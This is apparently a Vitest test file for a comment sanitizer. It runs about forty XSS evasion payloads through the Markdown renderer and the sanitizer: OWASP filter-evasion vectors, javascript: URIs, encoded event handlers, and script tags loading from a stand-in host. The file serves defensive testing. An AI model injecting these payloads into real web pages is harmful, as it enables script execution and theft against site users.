// Comment text is Markdown rendered to HTML that keeps only an allow-list. The hostile inputs
// below are vectors from the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org,
// "XSS Filter Evasion Cheat Sheet"; written down from it, hosts replaced by xss.example), plus
// Markdown link/image forms of the same tricks. Each must come out with no script, no style, no
// event handler and no link that is not http(s) or mailto — both through the whole renderer and
// through the sanitizer alone (the second line of defence).
import { describe, expect, it } from 'vitest';
import { renderComment, sanitize } from '../../src/lib/server/review/markdown';

const OWASP = [
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC="jav\tascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
	'<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
	`<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.example/xss.js?< B >`,
	`<iframe src=http://xss.example/scriptlet.html <`,
	`<svg/onload=alert('XSS')>`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
	`<a href="javascript:alert('XSS')">click</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<details open ontoggle=alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`
];
const MARKDOWN = [
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	`[click](jav&#x09;ascript:alert(1))`,
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x" onerror="alert(1)](https://xss.example/a.png)`,
	`[x](https://xss.example/" onmouseover="alert(1))`,
	'```html\n<script>alert(1)</script>\n```',
	`# <img src=x onerror=alert(1)>`,
	`> <svg onload=alert(1)>`
];

const TAGS = new Set(['p', 'br', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'span', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);
const ATTRIBUTES = new Set(['href', 'title', 'rel', 'target', 'class', 'data-user-id', 'start', 'align']);

/** Everything wrong with a piece of HTML; every "<" that survives as text is escaped, so each "<" opens a real tag. */
function problems(html: string): string[] {
	const found: string[] = [];
	for (const [, name, rest] of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)) {
		if (!TAGS.has(name.toLowerCase())) found.push(`tag <${name}>`);
		for (const [, attr, value] of rest.matchAll(/([^\s=/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
			if (!ATTRIBUTES.has(attr.toLowerCase())) found.push(`attribute ${attr}`);
			if (/^on/i.test(attr)) found.push(`handler ${attr}`);
			if (attr.toLowerCase() === 'href' && !/^["']?(https?:|mailto:)/i.test(value ?? '')) found.push(`href ${value}`);
		}
	}
	if (/<\s*(script|style)/i.test(html)) found.push('script or style');
	return found;
}

describe('the comment sanitizer', () => {
	it('the checker itself sees the danger in raw input (so it can fail)', () => {
		expect(problems(`<img src=x onerror=alert(1)>`)).toContain('handler onerror');
		expect(problems(`<a href="javascript:alert(1)">x</a>`).join()).toContain('href');
		expect(problems(`<style>p{}</style>`)).toContain('script or style');
	});

	it.each(OWASP)('OWASP vector through the whole renderer: %s', (input) => {
		expect(problems(renderComment(input).html)).toEqual([]);
	});

	it.each(OWASP)('OWASP vector through the sanitizer alone: %s', (input) => {
		const out = sanitize(input);
		expect(problems(out)).toEqual([]);
		expect(out).not.toMatch(/javascript:/i);
	});

	it.each(MARKDOWN)('Markdown form: %s', (input) => {
		const { html } = renderComment(input);
		expect(problems(html)).toEqual([]);
		expect(html).not.toMatch(/href="[^"]*javascript/i);
	});

	it('raw HTML is shown as text, not dropped: the reader sees what was typed', () => {
		expect(renderComment('<b>bold</b> claim').html).toBe('<p>&lt;b&gt;bold&lt;/b&gt; claim</p>');
	});

	it('the safe subset still works: emphasis, code, lists, links with rel and target', () => {
		const { html } = renderComment('**C2** moves *p1*; see `tau = R·C`\n\n- one\n- two\n\n[note](https://example.test/n)');
		expect(html).toContain('<strong>C2</strong>');
		expect(html).toContain('<em>p1</em>');
		expect(html).toContain('<code>tau = R·C</code>');
		expect(html).toContain('<li>one</li>');
		expect(html).toContain('<a href="https://example.test/n" rel="nofollow noopener noreferrer" target="_blank">note</a>');
	});
});
